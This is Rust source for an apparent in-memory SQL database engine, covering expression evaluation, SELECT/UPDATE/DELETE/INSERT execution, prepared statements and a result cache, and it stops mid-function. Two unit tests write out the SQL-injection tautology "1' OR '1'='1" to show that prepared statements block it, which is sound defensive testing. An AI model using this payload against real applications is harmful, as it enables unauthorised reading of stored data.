) -> Result<Value, DbError> {
    match expr {
        SqlExpr::Scalar(s) => resolve_scalar(s, params),
        SqlExpr::Column(name) => {
            let idx = schema.index_of(name)?;
            Ok(row[idx].clone())
        }
        SqlExpr::Cmp(op, a, b) => {
            let va = eval_expr(a, schema, row, params)?;
            let vb = eval_expr(b, schema, row, params)?;
            let out = match va.sql_cmp(&vb) {
                None => Value::Null,
                Some(ord) => Value::Int(i64::from(match op {
                    CmpOp::Eq => ord == Ordering::Equal,
                    CmpOp::Ne => ord != Ordering::Equal,
                    CmpOp::Lt => ord == Ordering::Less,
                    CmpOp::Le => ord != Ordering::Greater,
                    CmpOp::Gt => ord == Ordering::Greater,
                    CmpOp::Ge => ord != Ordering::Less,
                })),
            };
            Ok(out)
        }
        SqlExpr::And(a, b) => {
            let va = truthy(&eval_expr(a, schema, row, params)?);
            // SQL three-valued logic: false AND x = false.
            if va == Some(false) {
                return Ok(Value::Int(0));
            }
            let vb = truthy(&eval_expr(b, schema, row, params)?);
            Ok(match (va, vb) {
                (Some(true), Some(true)) => Value::Int(1),
                (_, Some(false)) => Value::Int(0),
                _ => Value::Null,
            })
        }
        SqlExpr::Or(a, b) => {
            let va = truthy(&eval_expr(a, schema, row, params)?);
            if va == Some(true) {
                return Ok(Value::Int(1));
            }
            let vb = truthy(&eval_expr(b, schema, row, params)?);
            Ok(match (va, vb) {
                (_, Some(true)) => Value::Int(1),
                (Some(false), Some(false)) => Value::Int(0),
                _ => Value::Null,
            })
        }
        SqlExpr::Not(a) => {
            let va = truthy(&eval_expr(a, schema, row, params)?);
            Ok(match va {
                Some(v) => Value::Int(i64::from(!v)),
                None => Value::Null,
            })
        }
        SqlExpr::Like(a, pat) => {
            let va = eval_expr(a, schema, row, params)?;
            let vp = eval_expr(pat, schema, row, params)?;
            match (va, vp) {
                (Value::Null, _) | (_, Value::Null) => Ok(Value::Null),
                (a, p) => Ok(Value::Int(i64::from(like_match(&a.render(), &p.render())))),
            }
        }
        SqlExpr::IsNull(a, negated) => {
            let va = eval_expr(a, schema, row, params)?;
            Ok(Value::Int(i64::from(va.is_null() != *negated)))
        }
        SqlExpr::Arith(op, a, b) => {
            let va = eval_expr(a, schema, row, params)?;
            let vb = eval_expr(b, schema, row, params)?;
            match (va.as_number(), vb.as_number()) {
                // SQL convention: division by zero yields NULL.
                (Some(_), Some(y)) if *op == ArithOp::Div && y == 0.0 => Ok(Value::Null),
                (Some(x), Some(y)) => {
                    let out = match op {
                        ArithOp::Add => x + y,
                        ArithOp::Sub => x - y,
                        ArithOp::Mul => x * y,
                        ArithOp::Div => x / y,
                    };
                    // Keep integer typing when both operands were integers
                    // and the result is exact.
                    if let (Value::Int(_), Value::Int(_)) = (&va, &vb) {
                        if out.fract() == 0.0 && out.is_finite() {
                            return Ok(Value::Int(out as i64));
                        }
                    }
                    Ok(Value::Float(out))
                }
                _ => Ok(Value::Null),
            }
        }
    }
}

fn truthy(v: &Value) -> Option<bool> {
    match v {
        Value::Null => None,
        other => other.as_number().map(|n| n != 0.0).or(Some(false)),
    }
}

/// SQL LIKE matching with `%` (any run) and `_` (any single char).
pub fn like_match(text: &str, pattern: &str) -> bool {
    fn rec(t: &[u8], p: &[u8]) -> bool {
        match p.first() {
            None => t.is_empty(),
            Some(b'%') => {
                // Skip consecutive %.
                let p = &p[1..];
                (0..=t.len()).any(|i| rec(&t[i..], p))
            }
            Some(b'_') => !t.is_empty() && rec(&t[1..], &p[1..]),
            Some(&c) => t.first() == Some(&c) && rec(&t[1..], &p[1..]),
        }
    }
    rec(text.as_bytes(), pattern.as_bytes())
}

/// Executes a SELECT against one table.
pub fn exec_select(
    table: &Table,
    projection: &Projection,
    where_clause: Option<&SqlExpr>,
    order_by: Option<&(String, Order)>,
    limit: Option<usize>,
    params: &[Value],
) -> Result<ResultSet, DbError> {
    let schema = table.schema();
    let mut matched: Vec<&Vec<Value>> = Vec::new();
    for row in table.rows() {
        let keep = match where_clause {
            None => true,
            Some(w) => truthy(&eval_expr(w, schema, row, params)?) == Some(true),
        };
        if keep {
            matched.push(row);
        }
    }

    if let Some((col, dir)) = order_by {
        let idx = schema.index_of(col)?;
        matched.sort_by(|a, b| {
            let ord = a[idx].sql_cmp(&b[idx]).unwrap_or(Ordering::Equal);
            match dir {
                Order::Asc => ord,
                Order::Desc => ord.reverse(),
            }
        });
    }

    if let Some(n) = limit {
        matched.truncate(n);
    }

    match projection {
        Projection::Star => Ok(ResultSet {
            columns: schema.columns().iter().map(|c| c.name.clone()).collect(),
            rows: matched.into_iter().cloned().collect(),
        }),
        Projection::Columns(cols) => {
            let idxs: Vec<usize> = cols
                .iter()
                .map(|c| schema.index_of(c))
                .collect::<Result<_, _>>()?;
            Ok(ResultSet {
                columns: cols.clone(),
                rows: matched
                    .into_iter()
                    .map(|r| idxs.iter().map(|&i| r[i].clone()).collect())
                    .collect(),
            })
        }
        Projection::Aggregates(aggs) => {
            let mut columns = Vec::new();
            let mut row = Vec::new();
            for agg in aggs {
                let (name, value) = eval_aggregate(agg, schema, &matched)?;
                columns.push(name);
                row.push(value);
            }
            Ok(ResultSet {
                columns,
                rows: vec![row],
            })
        }
    }
}

fn eval_aggregate(
    agg: &Aggregate,
    schema: &Schema,
    rows: &[&Vec<Value>],
) -> Result<(String, Value), DbError> {
    let col_values = |col: &str| -> Result<Vec<Value>, DbError> {
        let idx = schema.index_of(col)?;
        Ok(rows
            .iter()
            .map(|r| r[idx].clone())
            .filter(|v| !v.is_null())
            .collect())
    };
    match agg {
        Aggregate::CountStar => Ok(("count".into(), Value::Int(rows.len() as i64))),
        Aggregate::Count(col) => Ok(("count".into(), Value::Int(col_values(col)?.len() as i64))),
        Aggregate::Sum(col) => {
            let vals = col_values(col)?;
            if vals.is_empty() {
                return Ok(("sum".into(), Value::Null));
            }
            let sum: f64 = vals.iter().filter_map(Value::as_number).sum();
            Ok(("sum".into(), number_value(sum, &vals)))
        }
        Aggregate::Avg(col) => {
            let vals = col_values(col)?;
            if vals.is_empty() {
                return Ok(("avg".into(), Value::Null));
            }
            let sum: f64 = vals.iter().filter_map(Value::as_number).sum();
            Ok(("avg".into(), Value::Float(sum / vals.len() as f64)))
        }
        Aggregate::Min(col) => Ok(("min".into(), extremum(col_values(col)?, Ordering::Less))),
        Aggregate::Max(col) => Ok(("max".into(), extremum(col_values(col)?, Ordering::Greater))),
    }
}

fn number_value(x: f64, source: &[Value]) -> Value {
    let all_int = source.iter().all(|v| matches!(v, Value::Int(_)));
    if all_int && x.fract() == 0.0 && x.is_finite() {
        Value::Int(x as i64)
    } else {
        Value::Float(x)
    }
}

fn extremum(vals: Vec<Value>, want: Ordering) -> Value {
    let mut best: Option<Value> = None;
    for v in vals {
        best = match best {
            None => Some(v),
            Some(b) => {
                if v.sql_cmp(&b) == Some(want) {
                    Some(v)
                } else {
                    Some(b)
                }
            }
        };
    }
    best.unwrap_or(Value::Null)
}

/// Executes UPDATE; returns affected row count.
pub fn exec_update(
    table: &mut Table,
    sets: &[(String, SqlExpr)],
    where_clause: Option<&SqlExpr>,
    params: &[Value],
) -> Result<usize, DbError> {
    let schema = table.schema().clone();
    let set_idxs: Vec<(usize, &SqlExpr)> = sets
        .iter()
        .map(|(c, e)| Ok((schema.index_of(c)?, e)))
        .collect::<Result<_, DbError>>()?;
    let mut affected = 0;
    for row in table.rows_mut() {
        let keep = match where_clause {
            None => true,
            Some(w) => truthy(&eval_expr(w, &schema, row, params)?) == Some(true),
        };
        if keep {
            // Evaluate all SETs against the pre-update row, then apply.
            let mut new_vals = Vec::with_capacity(set_idxs.len());
            for (idx, e) in &set_idxs {
                let v = eval_expr(e, &schema, row, params)?;
                let col = &schema.columns()[*idx];
                if !col.ty.accepts(&v) {
                    return Err(DbError::TypeMismatch {
                        column: col.name.clone(),
                        value: v.render(),
                    });
                }
                new_vals.push((*idx, col.ty.coerce(v)));
            }
            for (idx, v) in new_vals {
                row[idx] = v;
            }
            affected += 1;
        }
    }
    Ok(affected)
}

/// Executes DELETE; returns affected row count.
pub fn exec_delete(
    table: &mut Table,
    where_clause: Option<&SqlExpr>,
    params: &[Value],
) -> Result<usize, DbError> {
    let schema = table.schema().clone();
    let mut error = None;
    let before = table.row_count();
    table.rows_mut().retain(|row| {
        if error.is_some() {
            return true;
        }
        match where_clause {
            None => false,
            Some(w) => match eval_expr(w, &schema, row, params) {
                Ok(v) => truthy(&v) != Some(true),
                Err(e) => {
                    error = Some(e);
                    true
                }
            },
        }
    });
    match error {
        Some(e) => Err(e),
        None => Ok(before - table.row_count()),
    }
}

/// Binds INSERT rows and appends them; returns affected count.
pub fn exec_insert(
    table: &mut Table,
    columns: Option<&[String]>,
    rows: &[Vec<SqlScalar>],
    params: &[Value],
) -> Result<usize, DbError> {
    let schema = table.schema().clone();
    let mut count = 0;
    for scalars in rows {
        let values: Vec<Value> = scalars
            .iter()
            .map(|s| resolve_scalar(s, params))
            .collect::<Result<_, _>>()?;
        let full_row = match columns {
            None => values,
            Some(cols) => {
                if cols.len() != values.len() {
                    return Err(DbError::ArityMismatch {
                        expected: cols.len(),
                        found: values.len(),
                    });
                }
                let mut row = vec![Value::Null; schema.len()];
                for (c, v) in cols.iter().zip(values) {
                    row[schema.index_of(c)?] = v;
                }
                row
            }
        };
        table.insert(full_row)?;
        count += 1;
    }
    Ok(count)
}

/// Dispatches a parsed statement against a table-lookup callback. Used by
/// [`Database::execute`](crate::Database::execute).
pub fn returns_rows(stmt: &SqlStmt) -> bool {
    stmt.returns_rows()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn arithmetic_edge_cases() {
        use crate::schema::{schema, ColumnType};
        use crate::table::Table;
        let s = schema(&[("a", ColumnType::Int), ("b", ColumnType::Int)]);
        let mut t = Table::new(s);
        t.insert(vec![Value::Int(10), Value::Int(0)]).unwrap();
        // Division by zero yields NULL (SQL convention, never a panic), and
        // NULL = 0 evaluates to NULL.
        let stmt = crate::sql::parse_sql("SELECT * FROM t WHERE a / b = 0").unwrap();
        if let crate::sql::SqlStmt::Select { where_clause, .. } = stmt {
            let w = where_clause.unwrap();
            let v = eval_expr(&w, t.schema(), &t.rows()[0], &[]).unwrap();
            assert_eq!(v, Value::Null);
        } else {
            panic!("expected select");
        }
    }

    #[test]
    fn select_limit_zero_returns_nothing() {
        use crate::schema::{schema, ColumnType};
        use crate::table::Table;
        let s = schema(&[("a", ColumnType::Int)]);
        let mut t = Table::new(s);
        t.insert(vec![Value::Int(1)]).unwrap();
        let rs = exec_select(&t, &Projection::Star, None, None, Some(0), &[]).unwrap();
        assert_eq!(rs.ntuples(), 0);
    }

    #[test]
    fn order_by_text_is_lexicographic() {
        use crate::schema::{schema, ColumnType};
        use crate::table::Table;
        let s = schema(&[("n", ColumnType::Text)]);
        let mut t = Table::new(s);
        for v in ["pear", "apple", "plum"] {
            t.insert(vec![Value::Text(v.into())]).unwrap();
        }
        let rs = exec_select(
            &t,
            &Projection::Star,
            None,
            Some(&("n".to_string(), Order::Asc)),
            None,
            &[],
        )
        .unwrap();
        let names: Vec<String> = rs.rows.iter().map(|r| r[0].render()).collect();
        assert_eq!(names, vec!["apple", "pear", "plum"]);
    }

    #[test]
    fn like_match_wildcards() {
        assert!(like_match("hello", "h%o"));
        assert!(like_match("hello", "_ello"));
        assert!(!like_match("hello", "h_o"));
        assert!(like_match("", "%"));
        assert!(like_match("abc", "%"));
        assert!(!like_match("abc", "a_"));
        assert!(like_match("a%b", "a%b"));
    }
}
