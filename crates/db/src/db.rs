//! The database: a named collection of tables plus statement execution and
//! prepared statements.

use crate::error::DbError;
use crate::exec::{exec_delete, exec_insert, exec_select, exec_update, QueryResult};
use crate::schema::{Column, Schema};
use crate::sql::{parse_sql, SqlStmt};
use crate::table::Table;
use crate::value::Value;
use std::collections::HashMap;

/// An in-memory relational database.
#[derive(Debug, Default)]
pub struct Database {
    name: String,
    tables: HashMap<String, Table>,
    prepared: HashMap<String, SqlStmt>,
    /// Total statements executed — exposed for the benchmarks.
    statements_executed: u64,
}

impl Database {
    /// Creates an empty database.
    pub fn new(name: impl Into<String>) -> Database {
        Database {
            name: name.into(),
            ..Database::default()
        }
    }

    /// The database name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Number of statements executed so far.
    pub fn statements_executed(&self) -> u64 {
        self.statements_executed
    }

    /// Table names in arbitrary order.
    pub fn table_names(&self) -> Vec<&str> {
        self.tables.keys().map(String::as_str).collect()
    }

    /// Looks up a table.
    pub fn table(&self, name: &str) -> Option<&Table> {
        self.tables.get(&normalize(name))
    }

    /// Parses and executes one SQL statement.
    pub fn execute(&mut self, sql: &str) -> Result<QueryResult, DbError> {
        let stmt = parse_sql(sql)?;
        self.execute_stmt(&stmt, &[])
    }

    /// Parses and executes one SQL statement with bound parameters.
    pub fn execute_with_params(
        &mut self,
        sql: &str,
        params: &[Value],
    ) -> Result<QueryResult, DbError> {
        let stmt = parse_sql(sql)?;
        self.execute_stmt(&stmt, params)
    }

    /// Registers a named prepared statement (libpq `PQprepare`).
    pub fn prepare(&mut self, name: impl Into<String>, sql: &str) -> Result<(), DbError> {
        let stmt = parse_sql(sql)?;
        self.prepared.insert(name.into(), stmt);
        Ok(())
    }

    /// Executes a previously prepared statement with bound parameters
    /// (libpq `PQexecPrepared`).
    pub fn execute_prepared(
        &mut self,
        name: &str,
        params: &[Value],
    ) -> Result<QueryResult, DbError> {
        let stmt = self
            .prepared
            .get(name)
            .cloned()
            .ok_or_else(|| DbError::Unsupported(format!("no prepared statement `{name}`")))?;
        self.execute_stmt(&stmt, params)
    }

    /// Executes a parsed statement.
    pub fn execute_stmt(
        &mut self,
        stmt: &SqlStmt,
        params: &[Value],
    ) -> Result<QueryResult, DbError> {
        self.statements_executed += 1;
        match stmt {
            SqlStmt::CreateTable { name, columns } => {
                let key = normalize(name);
                if self.tables.contains_key(&key) {
                    return Err(DbError::TableExists(name.clone()));
                }
                let schema = Schema::new(
                    columns
                        .iter()
                        .map(|(n, t)| Column {
                            name: n.clone(),
                            ty: *t,
                        })
                        .collect(),
                )?;
                self.tables.insert(key, Table::new(schema));
                Ok(QueryResult::Ok)
            }
            SqlStmt::DropTable { name } => {
                self.tables
                    .remove(&normalize(name))
                    .ok_or_else(|| DbError::UnknownTable(name.clone()))?;
                Ok(QueryResult::Ok)
            }
            SqlStmt::Insert {
                table,
                columns,
                rows,
            } => {
                let t = self.table_mut(table)?;
                let n = exec_insert(t, columns.as_deref(), rows, params)?;
                Ok(QueryResult::Affected(n))
            }
            SqlStmt::Select {
                projection,
                table,
                where_clause,
                order_by,
                limit,
            } => {
                let t = self.table_ref(table)?;
                let rs = exec_select(
                    t,
                    projection,
                    where_clause.as_ref(),
                    order_by.as_ref(),
                    *limit,
                    params,
                )?;
                Ok(QueryResult::Rows(rs))
            }
            SqlStmt::Update {
                table,
                sets,
                where_clause,
            } => {
                let t = self.table_mut(table)?;
                let n = exec_update(t, sets, where_clause.as_ref(), params)?;
                Ok(QueryResult::Affected(n))
            }
            SqlStmt::Delete {
                table,
                where_clause,
            } => {
                let t = self.table_mut(table)?;
                let n = exec_delete(t, where_clause.as_ref(), params)?;
                Ok(QueryResult::Affected(n))
            }
        }
    }

    fn table_ref(&self, name: &str) -> Result<&Table, DbError> {
        self.tables
            .get(&normalize(name))
            .ok_or_else(|| DbError::UnknownTable(name.to_string()))
    }

    fn table_mut(&mut self, name: &str) -> Result<&mut Table, DbError> {
        self.tables
            .get_mut(&normalize(name))
            .ok_or_else(|| DbError::UnknownTable(name.to_string()))
    }
}

fn normalize(name: &str) -> String {
    name.to_ascii_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_db() -> Database {
        let mut db = Database::new("test");
        db.execute("CREATE TABLE clients (id INT, name TEXT, balance FLOAT)")
            .unwrap();
        db.execute(
            "INSERT INTO clients VALUES (105, 'alice', 10.5), (106, 'bob', 20.0), (107, 'carol', 0.0)",
        )
        .unwrap();
        db
    }

    #[test]
    fn select_by_id_returns_one_row() {
        let mut db = sample_db();
        let result = db.execute("SELECT * FROM clients where id='105'").unwrap();
        assert_eq!(result.rows().unwrap().ntuples(), 1);
    }

    #[test]
    fn tautology_injection_returns_all_rows() {
        // Fig. 2: the injected tautology must flip selectivity from 1 to N.
        let mut db = sample_db();
        let result = db
            .execute("SELECT * FROM clients where id='1' OR '1'='1'")
            .unwrap();
        assert_eq!(result.rows().unwrap().ntuples(), 3);
    }

    #[test]
    fn prepared_statement_defeats_injection() {
        // The same payload bound as a parameter matches nothing.
        let mut db = sample_db();
        db.prepare("get_client", "SELECT * FROM clients WHERE id = $1")
            .unwrap();
        let result = db
            .execute_prepared("get_client", &[Value::Text("1' OR '1'='1".into())])
            .unwrap();
        assert_eq!(result.rows().unwrap().ntuples(), 0);
        let result = db
            .execute_prepared("get_client", &[Value::Text("105".into())])
            .unwrap();
        assert_eq!(result.rows().unwrap().ntuples(), 1);
    }

    #[test]
    fn update_and_delete_affect_counts() {
        let mut db = sample_db();
        let r = db
            .execute("UPDATE clients SET balance = balance + 5 WHERE balance < 15")
            .unwrap();
        assert_eq!(r, QueryResult::Affected(2));
        let r = db
            .execute("DELETE FROM clients WHERE name LIKE 'b%'")
            .unwrap();
        assert_eq!(r, QueryResult::Affected(1));
        assert_eq!(db.table("clients").unwrap().row_count(), 2);
    }

    #[test]
    fn count_star_with_predicate() {
        let mut db = sample_db();
        let r = db
            .execute("SELECT COUNT(*) FROM clients WHERE balance > 5")
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "2");
    }

    #[test]
    fn aggregates_sum_avg_min_max() {
        let mut db = sample_db();
        let r = db
            .execute("SELECT SUM(id), MIN(id), MAX(id), AVG(balance) FROM clients")
            .unwrap();
        let rs = r.rows().unwrap().clone();
        assert_eq!(rs.get_value(0, 0).unwrap(), "318");
        assert_eq!(rs.get_value(0, 1).unwrap(), "105");
        assert_eq!(rs.get_value(0, 2).unwrap(), "107");
        let avg: f64 = rs.get_value(0, 3).unwrap().parse().unwrap();
        assert!((avg - 10.166_666).abs() < 1e-3);
    }

    #[test]
    fn order_by_and_limit() {
        let mut db = sample_db();
        let r = db
            .execute("SELECT name FROM clients ORDER BY balance DESC LIMIT 2")
            .unwrap();
        let rs = r.rows().unwrap().clone();
        assert_eq!(rs.get_value(0, 0).unwrap(), "bob");
        assert_eq!(rs.get_value(1, 0).unwrap(), "alice");
    }

    #[test]
    fn errors_for_unknown_objects() {
        let mut db = sample_db();
        assert!(matches!(
            db.execute("SELECT * FROM missing"),
            Err(DbError::UnknownTable(_))
        ));
        assert!(matches!(
            db.execute("SELECT nope FROM clients"),
            Err(DbError::UnknownColumn(_))
        ));
        assert!(matches!(
            db.execute("CREATE TABLE clients (id INT)"),
            Err(DbError::TableExists(_))
        ));
    }

    #[test]
    fn insert_with_column_list_fills_nulls() {
        let mut db = sample_db();
        db.execute("INSERT INTO clients (id) VALUES (200)").unwrap();
        let r = db
            .execute("SELECT name FROM clients WHERE id = 200")
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "NULL");
    }

    #[test]
    fn null_predicates() {
        let mut db = sample_db();
        db.execute("INSERT INTO clients (id) VALUES (200)").unwrap();
        let r = db
            .execute("SELECT COUNT(*) FROM clients WHERE name IS NULL")
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "1");
        // NULL comparisons never match.
        let r = db
            .execute("SELECT COUNT(*) FROM clients WHERE name = 'x' OR balance IS NOT NULL")
            .unwrap();
        assert_eq!(r.rows().unwrap().get_value(0, 0).unwrap(), "3");
    }
}
