//! The database: a named collection of tables plus statement execution and
//! prepared statements.

use crate::error::DbError;
use crate::exec::{exec_delete, exec_insert, exec_select, exec_update, QueryResult};
use crate::schema::{Column, Schema};
use crate::sql::{parse_sql, SqlStmt};
use crate::table::Table;
use crate::value::Value;
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// An in-memory relational database.
///
/// `Clone` produces an independent snapshot — the workload harnesses seed
/// one prototype database and clone it per run instead of re-executing the
/// seed DDL/DML for every test case.
#[derive(Debug, Default, Clone)]
pub struct Database {
    name: String,
    tables: HashMap<String, Table>,
    prepared: HashMap<String, Arc<SqlStmt>>,
    /// Parsed-statement cache keyed by raw SQL text: application programs
    /// submit the same statement strings over and over (per session, per
    /// test case), so the parse is paid once per distinct string. Shared
    /// across clones (parsing is a pure function of the text), so cloning a
    /// seeded prototype per test case keeps the cache warm.
    parse_cache: Arc<Mutex<HashMap<String, Arc<SqlStmt>, SqlTextHash>>>,
    /// Deterministic content-version chain: every write mixes the statement
    /// identity and parameters into the version, so two databases hold
    /// identical content whenever they share a chain value. Cloning copies
    /// the chain, so a prototype's clones that replay the same statement
    /// sequence re-reach the same versions — which is what lets them share
    /// the result cache below.
    content_version: u64,
    /// SELECT-result cache keyed by (statement identity, content version,
    /// parameter hash), shared across clones like the parse cache. The
    /// workload harnesses clone one seeded prototype per test case and
    /// replay deterministic statements, so every repeat of a query after
    /// the first is a refcount bump instead of a table scan.
    result_cache: ResultCache,
    /// Result-cache (hits, misses), shared across clones like the cache
    /// itself — exposed for the benchmarks and the monitor's obs surface.
    result_cache_stats: Arc<(AtomicU64, AtomicU64)>,
    /// Total statements executed — exposed for the benchmarks.
    statements_executed: u64,
}

/// Entry bound after which the result cache is flushed wholesale — keeps
/// adversarial workloads (every injected string is a distinct statement)
/// from growing it without limit.
const RESULT_CACHE_CAP: usize = 4096;

/// Result-cache key: (statement identity, content version, parameter hash).
type ResultCacheKey = (usize, u64, u64);

/// The SELECT-result cache, shared across a prototype's clone family.
type ResultCache = Arc<Mutex<HashMap<ResultCacheKey, Arc<crate::exec::ResultSet>>>>;

/// Word-at-a-time multiply-rotate hasher for the parse cache. The cache
/// hashes the full SQL text of every submitted query; the keys are program
/// text, not attacker-chosen input, so SipHash's DoS resistance buys
/// nothing on this hot path.
struct SqlTextHasher(u64);

impl Default for SqlTextHasher {
    fn default() -> SqlTextHasher {
        SqlTextHasher(0xCBF2_9CE4_8422_2325)
    }
}

impl std::hash::Hasher for SqlTextHasher {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, bytes: &[u8]) {
        const K: u64 = 0x517C_C1B7_2722_0A95;
        let mut h = self.0;
        let mut chunks = bytes.chunks_exact(8);
        for c in &mut chunks {
            let v = u64::from_le_bytes(c.try_into().expect("8-byte chunk"));
            h = (h.rotate_left(5) ^ v).wrapping_mul(K);
        }
        let rest = chunks.remainder();
        if !rest.is_empty() {
            let mut buf = [0u8; 8];
            buf[..rest.len()].copy_from_slice(rest);
            let v = u64::from_le_bytes(buf) | ((rest.len() as u64) << 56);
            h = (h.rotate_left(5) ^ v).wrapping_mul(K);
        }
        self.0 = h;
    }
}

/// The parse cache's hasher state (see [`SqlTextHasher`]).
type SqlTextHash = std::hash::BuildHasherDefault<SqlTextHasher>;

/// splitmix64-style combiner for the content-version chain and parameter
/// hashes. Not cryptographic; a 64-bit accidental collision across the
/// handful of versions a workload reaches is not a practical concern.
fn mix(seed: u64, v: u64) -> u64 {
    let mut x = seed ^ v.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// Order-sensitive hash of bound parameters (cache-key component).
fn hash_params(params: &[Value]) -> u64 {
    let mut h = 0xA076_1D64_78BD_642F;
    for p in params {
        h = match p {
            Value::Int(v) => mix(h, 1 ^ *v as u64),
            Value::Float(v) => mix(h, mix(2, v.to_bits())),
            Value::Text(s) => {
                let mut t = mix(h, 3);
                for chunk in s.as_bytes().chunks(8) {
                    let mut buf = [0u8; 8];
                    buf[..chunk.len()].copy_from_slice(chunk);
                    t = mix(t, u64::from_le_bytes(buf));
                }
                mix(t, s.len() as u64)
            }
            Value::Null => mix(h, 4),
        };
    }
    h
}

impl Database {
    /// Creates an empty database.
    pub fn new(name: impl Into<String>) -> Database {
        Database {
            name: name.into(),
            ..Database::default()
        }
    }

    /// The database name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Number of statements executed so far.
    pub fn statements_executed(&self) -> u64 {
        self.statements_executed
    }

    /// Result-cache (hits, misses) across this database's clone family.
    pub fn result_cache_stats(&self) -> (u64, u64) {
        (
            self.result_cache_stats.0.load(Ordering::Relaxed),
            self.result_cache_stats.1.load(Ordering::Relaxed),
        )
    }

    /// Table names in arbitrary order.
    pub fn table_names(&self) -> Vec<&str> {
        self.tables.keys().map(String::as_str).collect()
    }

    /// Looks up a table.
    pub fn table(&self, name: &str) -> Option<&Table> {
        self.tables.get(&*normalize(name))
    }

    /// Parses (through the statement cache) and executes one SQL statement.
    pub fn execute(&mut self, sql: &str) -> Result<QueryResult, DbError> {
        let stmt = self.parse_cached(sql)?;
        self.execute_arc(&stmt, &[])
    }

    /// Parses and executes one SQL statement with bound parameters.
    pub fn execute_with_params(
        &mut self,
        sql: &str,
        params: &[Value],
    ) -> Result<QueryResult, DbError> {
        let stmt = self.parse_cached(sql)?;
        self.execute_arc(&stmt, params)
    }

    /// Returns the parsed form of `sql`, parsing and caching on first sight.
    /// Parse *errors* are not cached — a malformed statement is re-parsed
    /// (and re-fails) each time, which keeps the cache small under fuzzing.
    fn parse_cached(&mut self, sql: &str) -> Result<Arc<SqlStmt>, DbError> {
        let mut cache = self.parse_cache.lock().expect("parse cache poisoned");
        if let Some(stmt) = cache.get(sql) {
            return Ok(Arc::clone(stmt));
        }
        let stmt = Arc::new(parse_sql(sql)?);
        cache.insert(sql.to_string(), Arc::clone(&stmt));
        Ok(stmt)
    }

    /// Registers a named prepared statement (libpq `PQprepare`).
    pub fn prepare(&mut self, name: impl Into<String>, sql: &str) -> Result<(), DbError> {
        let stmt = self.parse_cached(sql)?;
        self.prepared.insert(name.into(), stmt);
        Ok(())
    }

    /// Executes a previously prepared statement with bound parameters
    /// (libpq `PQexecPrepared`).
    pub fn execute_prepared(
        &mut self,
        name: &str,
        params: &[Value],
    ) -> Result<QueryResult, DbError> {
        let stmt = self
            .prepared
            .get(name)
            .cloned()
            .ok_or_else(|| DbError::Unsupported(format!("no prepared statement `{name}`")))?;
        self.execute_arc(&stmt, params)
    }

    /// Executes a statement whose `Arc` identity is stable (it came from
    /// the shared parse cache), consulting the result cache for SELECTs and
    /// advancing the content-version chain for writes.
    fn execute_arc(
        &mut self,
        stmt: &Arc<SqlStmt>,
        params: &[Value],
    ) -> Result<QueryResult, DbError> {
        if !matches!(**stmt, SqlStmt::Select { .. }) {
            // Writes advance the version *before* executing: a failed write
            // may still have partial effects (multi-row INSERT), so the
            // chain moves whether or not the statement succeeds.
            let stmt_id = Arc::as_ptr(stmt) as usize as u64;
            self.content_version = mix(self.content_version, mix(stmt_id, hash_params(params)));
            return self.run_stmt(stmt, params);
        }
        let key = (
            Arc::as_ptr(stmt) as usize,
            self.content_version,
            hash_params(params),
        );
        if let Some(rs) = self
            .result_cache
            .lock()
            .expect("result cache poisoned")
            .get(&key)
        {
            self.statements_executed += 1;
            self.result_cache_stats.0.fetch_add(1, Ordering::Relaxed);
            return Ok(QueryResult::Rows(Arc::clone(rs)));
        }
        self.result_cache_stats.1.fetch_add(1, Ordering::Relaxed);
        let result = self.run_stmt(stmt, params)?;
        if let QueryResult::Rows(rs) = &result {
            let mut cache = self.result_cache.lock().expect("result cache poisoned");
            if cache.len() >= RESULT_CACHE_CAP {
                cache.clear();
            }
            cache.insert(key, Arc::clone(rs));
        }
        Ok(result)
    }

    /// Executes a parsed statement, bypassing the result cache. A write
    /// through this entry point has no stable statement identity to mix
    /// into the version chain, so it advances the chain with a globally
    /// unique nonce — correct (this database can never again share cached
    /// results with a sibling clone), just never cache-shareable.
    pub fn execute_stmt(
        &mut self,
        stmt: &SqlStmt,
        params: &[Value],
    ) -> Result<QueryResult, DbError> {
        if !matches!(stmt, SqlStmt::Select { .. }) {
            static NONCE: AtomicU64 = AtomicU64::new(1);
            self.content_version = mix(self.content_version, NONCE.fetch_add(1, Ordering::Relaxed));
        }
        self.run_stmt(stmt, params)
    }

    /// The raw statement executor.
    fn run_stmt(&mut self, stmt: &SqlStmt, params: &[Value]) -> Result<QueryResult, DbError> {
        self.statements_executed += 1;
        match stmt {
            SqlStmt::CreateTable { name, columns } => {
                let key = normalize(name).into_owned();
                if self.tables.contains_key(&key) {
                    return Err(DbError::TableExists(name.clone()));
                }
                let schema = Schema::new(
                    columns
                        .iter()
                        .map(|(n, t)| Column {
                            name: n.clone(),
                            ty: *t,
                        })
                        .collect(),
                )?;
                self.tables.insert(key, Table::new(schema));
                Ok(QueryResult::Ok)
            }
            SqlStmt::DropTable { name } => {
                self.tables
                    .remove(&*normalize(name))
                    .ok_or_else(|| DbError::UnknownTable(name.clone()))?;
                Ok(QueryResult::Ok)
            }
            SqlStmt::Insert {
                table,
                columns,
                rows,
            } => {
                let t = self.table_mut(table)?;
                let n = exec_insert(t, columns.as_deref(), rows, params)?;
                Ok(QueryResult::Affected(n))
            }
            SqlStmt::Select {
                projection,
                table,
                where_clause,
                order_by,
                limit,
            } => {
                let t = self.table_ref(table)?;
                let rs = exec_select(
                    t,
                    projection,
                    where_clause.as_ref(),
                    order_by.as_ref(),
                    *limit,
                    params,
                )?;
                Ok(QueryResult::Rows(Arc::new(rs)))
            }
            SqlStmt::Update {
                table,
                sets,
                where_clause,
            } => {
                let t = self.table_mut(table)?;
                let n = exec_update(t, sets, where_clause.as_ref(), params)?;
                Ok(QueryResult::Affected(n))
            }
            SqlStmt::Delete {
                table,
